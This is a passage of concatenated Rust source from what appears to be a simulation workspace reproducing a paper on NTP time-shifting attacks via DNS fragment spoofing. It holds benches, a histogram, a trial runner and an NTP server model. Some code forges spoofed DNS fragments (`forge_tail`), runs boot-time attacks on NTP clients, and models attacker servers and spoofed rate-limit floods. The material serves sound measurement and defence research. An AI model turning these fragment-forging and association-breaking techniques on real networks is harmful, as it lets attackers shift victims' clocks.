    c.bench_function("engine/defrag_spray_30k_with_expiry", |b| b.iter(|| defrag_churn(30_000)));
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
