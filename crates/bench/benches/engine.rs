//! engine: raw event-loop throughput (events/sec) and defrag-cache expiry.
//!
//! This is the regression guard for the slab-indexed dispatch path: hosts
//! and stacks are addressed by dense `HostId`, callbacks write into the
//! simulator's reusable scratch buffer, and `DefragCache::expire` pops a
//! time-ordered ring. The event budget bounds each iteration to an exact
//! event count, so the measured time is time-per-N-events.

use std::net::Ipv4Addr;
use std::time::Instant;

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

const EVENTS_PER_ITER: u64 = 100_000;
const RING_HOSTS: u32 = 64;

/// Forwards every datagram to the next host in the ring, forever. The
/// event budget is what terminates the run.
struct RingForwarder {
    next: Ipv4Addr,
}

impl Host for RingForwarder {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.send_udp(self.next, 4000, 4000, bytes::Bytes::from_static(b"lap"));
    }
    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        ctx.send_udp(self.next, d.dst_port, d.src_port, d.payload.clone());
    }
}

fn ring_sim(seed: u64) -> Simulator {
    let mut sim = Simulator::with_topology(
        seed,
        Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(5))),
    );
    let addr = |i: u32| Ipv4Addr::from(0x0A00_0000 + 1 + i);
    for i in 0..RING_HOSTS {
        let next = addr((i + 1) % RING_HOSTS);
        sim.add_host(addr(i), OsProfile::linux(), Box::new(RingForwarder { next }))
            .expect("ring address free");
    }
    sim.set_event_budget(EVENTS_PER_ITER);
    sim
}

/// One full iteration: dispatch exactly [`EVENTS_PER_ITER`] events.
fn drive(seed: u64) -> u64 {
    let mut sim = ring_sim(seed);
    // The budget (not the deadline) terminates the run.
    sim.run_for(SimDuration::from_secs(86_400));
    sim.stats().events_dispatched
}

fn defrag_churn(rounds: u64) -> usize {
    let mut cache =
        DefragCache::new(DefragConfig { max_pending_per_pair: 64, ..DefragConfig::default() });
    let src = Ipv4Addr::new(10, 0, 0, 1);
    let dst = Ipv4Addr::new(10, 0, 0, 2);
    let base = Ipv4Packet::udp(src, dst, 0, bytes::Bytes::from(vec![0xAB; 2000]));
    let template = fragment(&base, 1028).expect("fragments")[1].clone();
    let mut pending_peak = 0;
    for round in 0..rounds {
        // One planted fragment per second: every insert past the timeout
        // horizon also expires the oldest entry through the ring.
        let mut f = template.clone();
        f.id = (round % 0x1_0000) as u16;
        let now = SimTime::ZERO + SimDuration::from_secs(round);
        cache.insert(now, &f);
        pending_peak = pending_peak.max(cache.pending_reassemblies());
    }
    pending_peak
}

fn bench(c: &mut Criterion) {
    // Headline number once per run: end-to-end events/sec of the loop.
    let start = Instant::now();
    let dispatched = drive(1);
    let rate = dispatched as f64 / start.elapsed().as_secs_f64();
    bench::show(
        "Engine",
        &format!(
            "slab dispatch: {dispatched} events in {:?} ≈ {:.2} M events/sec\n\
             (ring of {RING_HOSTS} hosts, 5 ms links, budget-bounded)",
            start.elapsed(),
            rate / 1e6
        ),
    );

    c.bench_function("engine/dispatch_100k_events", |b| {
        let mut seed = 0;
        b.iter(|| {
            seed += 1;
            drive(seed)
        })
    });

    c.bench_function("engine/defrag_spray_30k_with_expiry", |b| b.iter(|| defrag_churn(30_000)));
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
