//! Table I: attack scenarios for popular NTP clients (live boot-time
//! verification per client model).

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    let rows = experiments::table1(2020, Scale::quick().workers);
    bench::show("Table I", &experiments::format_table1(&rows));
    c.bench_function("table1/boot_attack_ntpd", |b| {
        let mut seed = 0;
        b.iter(|| {
            seed += 1;
            run_boot_time_attack(
                ScenarioConfig { seed, ..ScenarioConfig::default() },
                ClientKind::Ntpd,
            )
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
