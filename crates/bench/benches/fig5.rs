//! Fig. 5: CDF of minimum fragment sizes over the 1M-domain population
//! (scaled), plus the §VII-B pool-nameserver scan.

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    let result = experiments::fig5(Scale { domains: 3000, ..Scale::quick() });
    bench::show("Fig. 5", &experiments::format_fig5(&result));
    let pool = experiments::pool_ns_scan(Scale::quick());
    bench::show(
        "§VII-B",
        &format!(
            "pool NS fragmenting <=548B: {}/30 (paper 16/30); signed: {} (paper 0)",
            pool.cdf.iter().find(|(t, _)| *t == 548).map(|(_, n)| *n).unwrap_or(0),
            pool.signed
        ),
    );
    c.bench_function("fig5/pmtud_probe_one_ns", |b| {
        let population = domain_nameservers(64, 9);
        let mut i = 0;
        b.iter(|| {
            i += 1;
            measure::pmtud::scan_nameserver(&population[i % population.len()], i as u64)
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench
}
criterion_main!(benches);
