//! Ablation benches for the design choices DESIGN.md calls out:
//! duplicate-fragment policy, fragment filtering, Chronos pool sanity,
//! panic-mode agreement check, and challenge-response entropy (which the
//! fragmentation attack sidesteps entirely).

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    // 1. Defrag duplicate policy: FirstWins (attackable) vs LastWins.
    let first = run_boot_time_attack(
        ScenarioConfig { seed: 1, ..ScenarioConfig::default() },
        ClientKind::Ntpd,
    );
    bench::show(
        "ablation/duplicate-policy",
        &format!("FirstWins (default): attack success = {}", first.success),
    );

    // 2. Chronos pool sanity: none vs hardened.
    let mut plain = PoolGenerator::new(24, PoolSanity::none());
    let mut hard = PoolGenerator::new(24, PoolSanity::hardened());
    let malicious: Vec<std::net::Ipv4Addr> =
        (1..=89u32).map(|i| std::net::Ipv4Addr::from(0x4242_0100 + i)).collect();
    let taken_plain = plain.absorb(&malicious, 2 * 86_400);
    let taken_hard = hard.absorb(&malicious, 2 * 86_400);
    bench::show(
        "ablation/chronos-sanity",
        &format!("unchecked pool absorbed {taken_plain}/89; hardened absorbed {taken_hard}/89"),
    );

    // 3. Panic-mode agreement check: on (2/3 bound) vs off (partial shifts).
    let mut offsets = vec![NtpDuration::from_secs_f64(0.0); 60];
    offsets.extend(vec![NtpDuration::from_secs_f64(-500.0); 90]); // 60% attacker
    let with_check = evaluate_panic(&offsets, &ChronosConfig::default());
    let without = evaluate_panic(
        &offsets,
        &ChronosConfig { panic_omega_check: false, ..ChronosConfig::default() },
    );
    bench::show(
        "ablation/panic-omega-check",
        &format!("60% attacker: with check -> {with_check:?}; without -> {without:?}"),
    );

    // 4. Entropy independence: the fragment attack needs neither port nor
    //    TXID guesses — both live in fragment 1.
    bench::show(
        "ablation/entropy",
        "fragment replacement bypasses the 2^32 port x TXID space: the spoofed \
         fragment matches on (src, dst, proto, IPID) only — see attack::forge tests",
    );

    c.bench_function("ablation/forge_tail", |b| {
        use rand::SeedableRng;
        let servers: Vec<std::net::Ipv4Addr> =
            (1..=8).map(|i| std::net::Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 23, "198.51.100.1".parse().unwrap());
        let mut srv = AuthServer::new(vec![zone]);
        let q = Message::query(7, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
        let wire = srv.answer(&q, &mut rand::rngs::SmallRng::seed_from_u64(5)).encode().unwrap();
        b.iter(|| forge_tail(&wire, 548, "66.66.0.1".parse().unwrap()).unwrap())
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(30);
    targets = bench
}
criterion_main!(benches);
