//! §VII-A: the rate-limiting scan of pool.ntp.org servers.

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    let result = experiments::ratelimit_scan(Scale { pool_servers: 1200, ..Scale::quick() });
    bench::show("§VII-A", &experiments::format_ratelimit(&result));
    c.bench_function("ratelimit/scan_one_server", |b| {
        let population = pool_servers(64, 9);
        let mut i = 0;
        b.iter(|| {
            i += 1;
            measure::ratelimit::scan_server(&population[i % population.len()], i as u64)
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench
}
criterion_main!(benches);
