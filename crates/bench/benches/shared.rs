//! §VIII-B3: shared-resolver discovery (open + SMTP-triggerable).

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    let result = experiments::shared_scan(Scale { shared: 2000, ..Scale::quick() });
    bench::show("§VIII-B3", &experiments::format_shared(&result));
    c.bench_function("shared/scan_200_resolvers", |b| {
        let population = shared_resolvers(200, 9);
        let mut i = 0;
        b.iter(|| {
            i += 1;
            measure::shared::run_scan(&population, i as u64)
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
