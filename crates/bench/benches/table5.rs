//! Table V: the ad-network client-resolver study.

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    let result = experiments::table5(Scale { ad_fraction: 0.1, ..Scale::quick() });
    bench::show("Table V", &experiments::format_table5(&result));
    c.bench_function("table5/one_client_test_page", |b| {
        let population = ad_clients_scaled(5, 0.01);
        let mut i = 0;
        b.iter(|| {
            i += 1;
            measure::adstudy::run_client(&population[i % population.len()], i as u64)
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench
}
criterion_main!(benches);
