//! Fig. 6: TTL distribution of cached NTP pool records (via RD=0 snooping).

use criterion::{criterion_group, criterion_main, Criterion};
use timeshift::prelude::*;

fn bench(c: &mut Criterion) {
    let survey = experiments::resolver_survey(Scale { resolvers: 1200, ..Scale::quick() });
    bench::show("Fig. 6", &experiments::format_fig6(&survey));
    c.bench_function("fig6/ttl_histogram", |b| b.iter(|| survey.ttl_histogram(10, 150)));
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench
}
criterion_main!(benches);
