//! `StreamHist` — a fixed-bin, clamped, mergeable streaming histogram.
//!
//! This is the workspace's one bucketing rule for the paper's figure
//! histograms (Fig. 6 TTL buckets, Fig. 7 clamped timing buckets): the
//! `measure::snoop` survey and the campaign aggregator both delegate
//! here, so a figure rendered from an in-process sweep and one rendered
//! from a merged campaign stream bucket identically by construction.
//!
//! Semantics: bin `i` covers `[lo + i·width, lo + (i+1)·width)`, samples
//! below `lo` clamp into bin 0 and samples at or above the top edge clamp
//! into the last bin — the histogram never drops a finite sample, which is
//! what makes `merge` exactly equivalent to concatenating the streams.
//! Non-finite samples are ignored (the campaign wire format encodes them
//! as `null` upstream anyway).
//!
//! Memory is `O(bins)` and independent of the stream length; merging is
//! element-wise counter addition, so it is commutative, associative, and
//! order-insensitive — shard placement is free.

/// A fixed-bin streaming histogram with clamped extremes.
#[derive(Debug, Clone, PartialEq)]
pub struct StreamHist {
    lo: f64,
    width: f64,
    counts: Vec<u64>,
    total: u64,
}

impl StreamHist {
    /// A histogram of `bins` bins of `width` starting at `lo`.
    ///
    /// # Panics
    ///
    /// Panics if `width` is not a positive finite number or `bins` is 0 —
    /// histogram shapes are static declarations, not runtime data.
    pub fn new(lo: f64, width: f64, bins: usize) -> StreamHist {
        assert!(width.is_finite() && width > 0.0, "bin width must be positive");
        assert!(lo.is_finite(), "histogram origin must be finite");
        assert!(bins > 0, "histogram needs at least one bin");
        StreamHist { lo, width, counts: vec![0; bins], total: 0 }
    }

    /// Folds one sample in; non-finite samples are ignored.
    pub fn push(&mut self, x: f64) {
        if !x.is_finite() {
            return;
        }
        let idx = if x <= self.lo {
            0
        } else {
            (((x - self.lo) / self.width) as usize).min(self.counts.len() - 1)
        };
        self.counts[idx] += 1;
        self.total += 1;
    }

    /// Finite samples folded so far.
    pub fn count(&self) -> u64 {
        self.total
    }

    /// The histogram origin (low edge of bin 0).
    pub fn lo(&self) -> f64 {
        self.lo
    }

    /// The bin width.
    pub fn width(&self) -> f64 {
        self.width
    }

    /// Per-bin counts, in bin order.
    pub fn counts(&self) -> &[u64] {
        &self.counts
    }

    /// `(low edge, count)` per bin, in bin order.
    pub fn bins(&self) -> impl Iterator<Item = (f64, u64)> + '_ {
        self.counts.iter().enumerate().map(|(i, &c)| (self.lo + i as f64 * self.width, c))
    }

    /// Adds `other`'s counts into `self` — exactly equivalent to having
    /// pushed both streams into one histogram, in any order.
    ///
    /// # Panics
    ///
    /// Panics if the histograms have different shapes (`lo`, `width`,
    /// bin count): merging incompatible declarations is a programming
    /// error, like a record/schema arity mismatch.
    pub fn merge(&mut self, other: &StreamHist) {
        assert!(
            self.lo.to_bits() == other.lo.to_bits()
                && self.width.to_bits() == other.width.to_bits()
                && self.counts.len() == other.counts.len(),
            "merging histograms of different shapes"
        );
        for (a, b) in self.counts.iter_mut().zip(&other.counts) {
            *a += b;
        }
        self.total += other.total;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clamps_extremes_into_edge_bins() {
        let mut h = StreamHist::new(0.0, 10.0, 3);
        for x in [-5.0, 0.0, 9.9, 10.0, 29.9, 30.0, 1e9] {
            h.push(x);
        }
        assert_eq!(h.counts(), &[3, 1, 3]);
        assert_eq!(h.count(), 7);
    }

    #[test]
    fn ignores_non_finite_samples() {
        let mut h = StreamHist::new(0.0, 1.0, 2);
        h.push(f64::NAN);
        h.push(f64::INFINITY);
        h.push(f64::NEG_INFINITY);
        assert_eq!(h.count(), 0);
    }

    #[test]
    fn negative_origin_buckets_like_the_fig7_rule() {
        // Fig. 7 shape: ±200 ms clamped, 25 ms buckets, 17 bins.
        let mut h = StreamHist::new(-200.0, 25.0, 17);
        h.push(-250.0); // clamps low
        h.push(-200.0);
        h.push(-187.5);
        h.push(0.0);
        h.push(199.9);
        h.push(200.0); // top edge: last bin
        h.push(250.0); // clamps high
        assert_eq!(h.counts()[0], 3);
        assert_eq!(h.counts()[8], 1);
        assert_eq!(h.counts()[15], 1);
        assert_eq!(h.counts()[16], 2);
    }

    #[test]
    fn merge_equals_concatenated_stream() {
        let samples: Vec<f64> = (0..100).map(|i| (i * 7 % 45) as f64 - 10.0).collect();
        let mut whole = StreamHist::new(-10.0, 5.0, 9);
        for &x in &samples {
            whole.push(x);
        }
        let (mut a, mut b) = (StreamHist::new(-10.0, 5.0, 9), StreamHist::new(-10.0, 5.0, 9));
        for &x in &samples[..33] {
            a.push(x);
        }
        for &x in &samples[33..] {
            b.push(x);
        }
        let mut ab = a.clone();
        ab.merge(&b);
        let mut ba = b.clone();
        ba.merge(&a);
        assert_eq!(ab, whole);
        assert_eq!(ba, whole);
    }

    #[test]
    #[should_panic(expected = "different shapes")]
    fn merge_rejects_shape_mismatch() {
        let mut a = StreamHist::new(0.0, 1.0, 4);
        a.merge(&StreamHist::new(0.0, 1.0, 5));
    }
}
