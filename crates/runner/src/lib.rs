//! # runner — the parallel Monte-Carlo trial driver
//!
//! Every paper artifact (Tables I–II, Fig. 5, Table V, the §VII-A scan,
//! the Fig. 6/7 survey sweeps) is a sweep of *independent* trials: each
//! trial builds its own seeded simulation, runs it to an outcome, and the
//! outcomes are aggregated. [`TrialRunner`] fans those trials across
//! `workers` scoped threads and merges the results **in item order**, so
//! the output is byte-identical to the sequential path for any worker
//! count: parallelism changes only wall-clock time, never results.
//!
//! This crate sits below both `measure` (the §VII–§VIII scan drivers) and
//! `timeshift` (the table/figure experiments), so the whole workspace
//! shares one parallel code path and one per-index seed scheme.
//!
//! Determinism contract: a trial's seed must be a pure function of the
//! master seed and the item index (see [`scan_seed`] / [`trial_seed`]) —
//! never of which worker picks the item up or when.

#![warn(missing_docs)]

pub mod hist;

pub use hist::StreamHist;

use std::sync::atomic::{AtomicUsize, Ordering};

use crossbeam::thread;

/// The seed for the population item at index `idx`: a pure function of the
/// master seed and the index (splitmix-style mixing), so every sweep in
/// the workspace produces identical results for any worker count or
/// chunking. Full avalanche mixing happens inside the simulators'
/// `SmallRng::seed_from_u64`.
pub fn scan_seed(seed: u64, idx: usize) -> u64 {
    seed ^ (idx as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15)
}

/// Derives the per-trial seed for item `idx` under `master` — an alias of
/// [`scan_seed`], the workspace's one per-index seed scheme.
pub fn trial_seed(master: u64, idx: usize) -> u64 {
    scan_seed(master, idx)
}

/// The splitmix64 finalizer: a full-avalanche 64-bit mixing function
/// (every input bit flips ~half the output bits). The workspace's utility
/// hash for deriving *decorrelated* values from structured inputs — e.g.
/// the campaign supervisor's deterministic backoff jitter, which must be
/// a pure function of `(master seed, shard, attempt)` with no wall-clock
/// randomness.
pub fn mix64(mut x: u64) -> u64 {
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// The contiguous index range shard `shard` of `shards` owns in a
/// population of `total` items: `⌊shard·total/shards⌋ ..
/// ⌊(shard+1)·total/shards⌋`.
///
/// The ranges are balanced (sizes differ by at most one), cover `0..total`
/// exactly, and concatenating them in shard order reproduces global index
/// order — so a sweep split across shards and merged shard-by-shard yields
/// the same item stream as an unsharded run. Seeds stay a pure function of
/// the *global* index ([`scan_seed`]`(master, idx)`), never of the shard,
/// which is what makes campaign results independent of the shard count.
///
/// # Panics
///
/// Panics if `shards` is zero or `shard >= shards`.
pub fn shard_range(total: usize, shard: usize, shards: usize) -> std::ops::Range<usize> {
    assert!(shards > 0, "shard count must be positive");
    assert!(shard < shards, "shard {shard} out of range for {shards} shards");
    // u128 keeps the products exact for any realistic population size.
    let lo = (shard as u128 * total as u128 / shards as u128) as usize;
    let hi = ((shard as u128 + 1) * total as u128 / shards as u128) as usize;
    lo..hi
}

/// Fans independent trials across a fixed number of worker threads.
#[derive(Debug, Clone, Copy)]
pub struct TrialRunner {
    workers: usize,
}

impl TrialRunner {
    /// A runner using `workers` threads (0 is clamped to 1; 1 runs inline
    /// on the calling thread with no spawn at all).
    pub fn new(workers: usize) -> Self {
        TrialRunner { workers: workers.max(1) }
    }

    /// The configured worker count.
    pub fn workers(&self) -> usize {
        self.workers
    }

    /// Runs `trial(index, &item)` for every item and returns the results in
    /// item order, regardless of which worker ran what when.
    ///
    /// Work is distributed dynamically (an atomic cursor over `items`), so
    /// uneven trial durations — a 17-minute and an 84-minute attack in the
    /// same sweep — still saturate all workers.
    ///
    /// # Panics
    ///
    /// Propagates a panic from any trial after the scope joins.
    pub fn run<I, T, F>(&self, items: &[I], trial: F) -> Vec<T>
    where
        I: Sync,
        T: Send,
        F: Fn(usize, &I) -> T + Sync,
    {
        let workers = self.workers.min(items.len());
        if workers <= 1 {
            return items.iter().enumerate().map(|(i, item)| trial(i, item)).collect();
        }
        let cursor = AtomicUsize::new(0);
        let trial = &trial;
        let per_worker: Vec<Vec<(usize, T)>> = thread::scope(|s| {
            let handles: Vec<_> = (0..workers)
                .map(|_| {
                    s.spawn(|_| {
                        let mut out = Vec::new();
                        loop {
                            let i = cursor.fetch_add(1, Ordering::Relaxed);
                            let Some(item) = items.get(i) else { break };
                            out.push((i, trial(i, item)));
                        }
                        out
                    })
                })
                .collect();
            handles.into_iter().map(|h| h.join().expect("trial worker panicked")).collect()
        })
        .expect("trial scope");
        // Deterministic merge: slot every result at its item index.
        let mut results: Vec<Option<T>> = (0..items.len()).map(|_| None).collect();
        for (i, value) in per_worker.into_iter().flatten() {
            results[i] = Some(value);
        }
        results.into_iter().map(|r| r.expect("every item ran exactly once")).collect()
    }

    /// Runs `trials` seeded trials: trial `i` receives
    /// [`trial_seed`]`(master_seed, i)`. Results come back in trial order.
    pub fn run_seeded<T, F>(&self, master_seed: u64, trials: usize, f: F) -> Vec<T>
    where
        T: Send,
        F: Fn(u64) -> T + Sync,
    {
        let seeds: Vec<u64> = (0..trials).map(|i| trial_seed(master_seed, i)).collect();
        self.run(&seeds, |_, &seed| f(seed))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn results_come_back_in_item_order() {
        let items: Vec<usize> = (0..97).collect();
        let out = TrialRunner::new(8).run(&items, |idx, &item| {
            assert_eq!(idx, item);
            item * 3
        });
        assert_eq!(out, (0..97).map(|i| i * 3).collect::<Vec<_>>());
    }

    #[test]
    fn parallel_matches_sequential_bit_for_bit() {
        let items: Vec<u64> = (0..64).collect();
        let f = |idx: usize, &item: &u64| trial_seed(item, idx).to_le_bytes();
        let seq = TrialRunner::new(1).run(&items, f);
        let par = TrialRunner::new(8).run(&items, f);
        assert_eq!(seq, par);
    }

    #[test]
    fn seeded_sweep_is_worker_count_independent() {
        let one = TrialRunner::new(1).run_seeded(2020, 40, |seed| seed.wrapping_mul(3));
        let eight = TrialRunner::new(8).run_seeded(2020, 40, |seed| seed.wrapping_mul(3));
        assert_eq!(one, eight);
    }

    #[test]
    fn zero_workers_clamps_to_one() {
        assert_eq!(TrialRunner::new(0).workers(), 1);
        let out = TrialRunner::new(0).run(&[1, 2, 3], |_, &x| x + 1);
        assert_eq!(out, vec![2, 3, 4]);
    }

    #[test]
    fn trial_seeds_are_well_spread() {
        let mut seeds: Vec<u64> = (0..1000).map(|i| trial_seed(7, i)).collect();
        seeds.sort_unstable();
        seeds.dedup();
        assert_eq!(seeds.len(), 1000, "no collisions across 1000 indices");
    }

    #[test]
    fn mix64_avalanches_and_spreads() {
        // Reference value from the splitmix64 specification chain.
        assert_eq!(mix64(0), 0);
        // Distinct, well-spread outputs over a dense input range.
        let mut outs: Vec<u64> = (0u64..4096).map(mix64).collect();
        outs.sort_unstable();
        outs.dedup();
        assert_eq!(outs.len(), 4096, "no collisions across 4096 inputs");
        // Single-bit input flips move many output bits.
        for bit in 0..64 {
            let delta = (mix64(0x1234_5678) ^ mix64(0x1234_5678 ^ (1 << bit))).count_ones();
            assert!(delta >= 16, "weak avalanche on bit {bit}: {delta}");
        }
    }

    #[test]
    fn scan_and_trial_seed_agree() {
        for idx in [0usize, 1, 17, 4096] {
            assert_eq!(scan_seed(0xABCD, idx), trial_seed(0xABCD, idx));
        }
    }

    #[test]
    fn shard_ranges_partition_and_balance() {
        for total in [0usize, 1, 7, 64, 97, 1583] {
            for shards in [1usize, 2, 3, 4, 8, 13] {
                let ranges: Vec<_> = (0..shards).map(|k| shard_range(total, k, shards)).collect();
                // Concatenation in shard order is exactly 0..total.
                let mut next = 0;
                for r in &ranges {
                    assert_eq!(r.start, next, "gap/overlap at {total}/{shards}");
                    next = r.end;
                }
                assert_eq!(next, total);
                // Balanced to within one item.
                let sizes: Vec<_> = ranges.iter().map(|r| r.end - r.start).collect();
                let (min, max) = (sizes.iter().min().unwrap(), sizes.iter().max().unwrap());
                assert!(max - min <= 1, "unbalanced {sizes:?} for {total}/{shards}");
            }
        }
    }

    #[test]
    #[should_panic(expected = "out of range")]
    fn shard_range_rejects_out_of_range_shard() {
        let _ = shard_range(10, 3, 3);
    }
}
