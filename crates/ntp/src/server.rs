//! NTP servers: honest, shifted (attacker-controlled) and rate limiting.
//!
//! Rate limiting is the paper's association-breaking lever (§IV-B2): the
//! attacker floods a server with mode-3 queries spoofed from the victim's
//! address; the server then stops answering the victim's *real* polls, so
//! the victim eventually declares the server unreachable and turns to DNS
//! for a replacement.

use netsim::fasthash::FastMap;
use std::net::Ipv4Addr;

use netsim::prelude::*;

use crate::packet::{peek_mode, ControlMessage, NtpMode, NtpPacket, NTP_PORT};
use crate::timestamp::{NtpDuration, NtpTimestamp};

/// Rate-limiter configuration, modelled on ntpd's `discard` / `restrict
/// limited [kod]` behaviour.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct RateLimitConfig {
    /// Whether the limiter is active at all (≈38 % of pool servers, §VII-A).
    pub enabled: bool,
    /// Send a Kiss-o'-Death RATE packet when limiting starts (≈33 % of pool
    /// servers; the rest go silent immediately).
    pub send_kod: bool,
    /// Minimum allowed inter-arrival per client IP (ntpd `discard average`,
    /// default 2 s ⇒ a 1 Hz scanner trips it).
    pub min_gap: SimDuration,
    /// Violations tolerated before limiting starts.
    pub burst: u32,
    /// How long after the most recent violation the client stays limited.
    pub cooldown: SimDuration,
}

impl RateLimitConfig {
    /// Limiter disabled.
    pub fn disabled() -> Self {
        RateLimitConfig {
            enabled: false,
            send_kod: false,
            min_gap: SimDuration::from_secs(2),
            burst: 8,
            cooldown: SimDuration::from_secs(60),
        }
    }

    /// ntpd-style `restrict limited kod`: KoD once, then silence.
    pub fn kod() -> Self {
        RateLimitConfig { enabled: true, send_kod: true, ..RateLimitConfig::disabled() }
    }

    /// Silent limiting: just stop answering.
    pub fn silent() -> Self {
        RateLimitConfig { enabled: true, send_kod: false, ..RateLimitConfig::disabled() }
    }
}

#[derive(Debug, Default, Clone, Copy)]
struct PerClient {
    last_seen: Option<SimTime>,
    score: f64,
    limited_until: Option<SimTime>,
    kod_sent: bool,
}

/// Counters exposed by an [`NtpServer`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ServerStats {
    /// Mode-3 queries received.
    pub queries: u64,
    /// Normal responses sent.
    pub responses: u64,
    /// Queries dropped by the limiter.
    pub rate_limited: u64,
    /// KoD packets sent.
    pub kods_sent: u64,
    /// Mode-6 control queries answered.
    pub control_answered: u64,
}

/// An NTP server host listening on port 123.
#[derive(Debug)]
pub struct NtpServer {
    /// Time served = true time + `shift` (honest servers: zero; the
    /// attacker's servers: −500 s in the paper's evaluation).
    pub shift: NtpDuration,
    /// Stratum advertised.
    pub stratum: u8,
    /// Refid advertised — for stratum ≥ 2 this is the upstream's IPv4
    /// address (the P2 leak); defaults to a stratum-1 style tag.
    pub ref_id: [u8; 4],
    /// Rate limiter.
    pub rate_limit: RateLimitConfig,
    /// Whether the mode-6 configuration interface is exposed to the
    /// Internet (≈5.3 % of pool servers, §IV-B2c).
    pub open_config: bool,
    /// Upstream peers reported by the config interface.
    pub upstream_peers: Vec<Ipv4Addr>,
    clients: FastMap<Ipv4Addr, PerClient>,
    /// Counters.
    pub stats: ServerStats,
}

impl NtpServer {
    /// An honest stratum-2 server serving true time.
    pub fn honest() -> Self {
        NtpServer {
            shift: NtpDuration::ZERO,
            stratum: 2,
            ref_id: [127, 127, 1, 0],
            rate_limit: RateLimitConfig::disabled(),
            open_config: false,
            upstream_peers: Vec::new(),
            clients: FastMap::default(),
            stats: ServerStats::default(),
        }
    }

    /// An attacker-controlled server serving `shift`-ed time.
    pub fn shifted(shift: NtpDuration) -> Self {
        NtpServer { shift, ..NtpServer::honest() }
    }

    /// Builder: sets the rate limiter.
    pub fn with_rate_limit(mut self, config: RateLimitConfig) -> Self {
        self.rate_limit = config;
        self
    }

    /// Builder: exposes the mode-6 config interface reporting `peers`.
    pub fn with_open_config(mut self, peers: Vec<Ipv4Addr>) -> Self {
        self.open_config = true;
        self.upstream_peers = peers;
        self
    }

    /// The limiter's verdict for a query from `src` at `now`.
    fn limiter_verdict(&mut self, now: SimTime, src: Ipv4Addr) -> Verdict {
        if !self.rate_limit.enabled {
            return Verdict::Answer;
        }
        let config = self.rate_limit;
        let state = self.clients.entry(src).or_default();
        if let Some(last) = state.last_seen {
            let gap = now.saturating_since(last);
            if gap < config.min_gap {
                state.score += 1.0;
            } else {
                // Decay one violation per multiple of min_gap elapsed.
                let decay = gap.as_nanos() as f64 / config.min_gap.as_nanos().max(1) as f64;
                state.score = (state.score - decay).max(0.0);
            }
        }
        state.last_seen = Some(now);
        if state.score > f64::from(config.burst) {
            state.limited_until = Some(now + config.cooldown);
        }
        match state.limited_until {
            Some(until) if now < until => {
                if config.send_kod && !state.kod_sent {
                    state.kod_sent = true;
                    Verdict::Kod
                } else {
                    Verdict::Drop
                }
            }
            Some(_) => {
                // Cooldown elapsed: forgive.
                state.limited_until = None;
                state.kod_sent = false;
                state.score = 0.0;
                Verdict::Answer
            }
            None => Verdict::Answer,
        }
    }

    /// Whether `src` is currently limited (introspection for tests).
    pub fn is_limiting(&self, now: SimTime, src: Ipv4Addr) -> bool {
        matches!(
            self.clients.get(&src).and_then(|s| s.limited_until),
            Some(until) if now < until
        )
    }
}

#[derive(Debug, PartialEq, Eq)]
enum Verdict {
    Answer,
    Kod,
    Drop,
}

impl Host for NtpServer {
    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        if d.dst_port != NTP_PORT {
            return;
        }
        match peek_mode(&d.payload) {
            Some(NtpMode::Control) => {
                if !self.open_config {
                    return;
                }
                if ControlMessage::decode(&d.payload) == Ok(ControlMessage::PeersRequest) {
                    self.stats.control_answered += 1;
                    let resp = ControlMessage::PeersResponse(self.upstream_peers.clone());
                    ctx.send_udp(d.src, NTP_PORT, d.src_port, resp.encode());
                }
            }
            Some(NtpMode::Client) => {
                let Ok(req) = NtpPacket::decode(&d.payload) else { return };
                self.stats.queries += 1;
                let now = ctx.now();
                match self.limiter_verdict(now, d.src) {
                    Verdict::Answer => {
                        let server_now = NtpTimestamp::at_sim_time(now) + self.shift;
                        let resp = NtpPacket::server_response(
                            &req,
                            self.stratum,
                            self.ref_id,
                            server_now,
                            server_now,
                        );
                        self.stats.responses += 1;
                        ctx.send_udp(d.src, NTP_PORT, d.src_port, resp.encode());
                    }
                    Verdict::Kod => {
                        self.stats.kods_sent += 1;
                        let server_now = NtpTimestamp::at_sim_time(now) + self.shift;
                        let kod = NtpPacket::kiss_of_death(&req, server_now);
                        ctx.send_udp(d.src, NTP_PORT, d.src_port, kod.encode());
                    }
                    Verdict::Drop => {
                        self.stats.rate_limited += 1;
                    }
                }
